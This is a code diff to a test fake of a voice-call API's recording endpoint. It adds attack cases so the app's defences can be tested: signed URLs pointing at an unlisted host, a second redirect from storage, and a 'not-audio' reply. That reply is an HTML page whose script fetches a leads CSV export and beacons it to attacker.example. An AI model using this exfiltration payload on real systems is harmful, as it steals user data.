@@ -18,8 +18,13 @@ export type FakeVapiBehaviour =
   | 'held'
   | 'hang';
 
-/** How the fake answers `GET /call/{id}/mono-recording`. */
-export type FakeRecordingBehaviour = 'success' | 'missing' | 'server-error' | 'hang';
+/**
+ * How the fake answers `GET /call/{id}/mono-recording`, and how its storage answers the signed URL.
+ * The attacks: 'redirect-elsewhere' signs a URL on another host name of this fake (`localhost`
+ * where the fake is `127.0.0.1`: a host the app does not list); 'storage-redirects' has the storage
+ * redirect once more, to that other host; 'not-audio' has it serve an HTML page with a script.
+ */
+export type FakeRecordingBehaviour = 'success' | 'missing' | 'server-error' | 'hang' | 'redirect-elsewhere' | 'storage-redirects' | 'not-audio';
 
 /** How the fake answers `DELETE /call/{id}`: 'outage' is the document's 503 ("the call was not deleted. Retry the request."). */
 export type FakeDeleteBehaviour = 'success' | 'outage';
@@ -267,13 +272,24 @@ export class FakeVapiServer {
       case 'hang':
         this.waiting.add(response);
         return;
-      case 'success':
+      case 'redirect-elsewhere':
+        response.writeHead(302, { Location: this.signedStorageUrl(callId, this.otherHostUrl) });
+        return void response.end();
+      default:
         break;
     }
-    const expires = Math.floor(Date.now() / 1000) + SIGNED_URL_SECONDS;
-    const location = `${this.url}/storage/recordings/${encodeURIComponent(callId)}.wav?X-Amz-Expires=${expires}&X-Amz-Signature=${this.signature(callId, expires)}`;
-    response.writeHead(302, { Location: location });
+    response.writeHead(302, { Location: this.signedStorageUrl(callId, this.url) });
     response.end();
+  }
+
+  /** This fake under another host name: what a redirect to a host the app does not list leads to. */
+  private get otherHostUrl(): string {
+    return this.url.replace('127.0.0.1', 'localhost');
+  }
+
+  private signedStorageUrl(callId: string, base: string): string {
+    const expires = Math.floor(Date.now() / 1000) + SIGNED_URL_SECONDS;
+    return `${base}/storage/recordings/${encodeURIComponent(callId)}.wav?X-Amz-Expires=${expires}&X-Amz-Signature=${this.signature(callId, expires)}`;
   }
 
   private serveStorage(callId: string, url: URL, request: IncomingMessage, response: ServerResponse): void {
@@ -283,6 +299,14 @@ export class FakeVapiServer {
     }
     if (request.headers.authorization) {
       return send(response, { status: 400, body: { message: 'Only one auth mechanism allowed; only the X-Amz-Signature query parameter is supported.' } });
+    }
+    if (this.recordingBehaviour === 'storage-redirects' && request.headers.host?.startsWith('127.0.0.1')) {
+      response.writeHead(302, { Location: this.signedStorageUrl(callId, this.otherHostUrl) });
+      return void response.end();
+    }
+    if (this.recordingBehaviour === 'not-audio') {
+      response.writeHead(200, { 'Content-Type': 'text/html' });
+      return void response.end('<!doctype html><script>fetch("/api/leads/export.csv").then((r) => r.text()).then((csv) => navigator.sendBeacon("https://attacker.example", csv))</script>');
     }
     const audio = this.recording;
     const headers = { 'Content-Type': 'audio/wav', 'Accept-Ranges': 'bytes' };
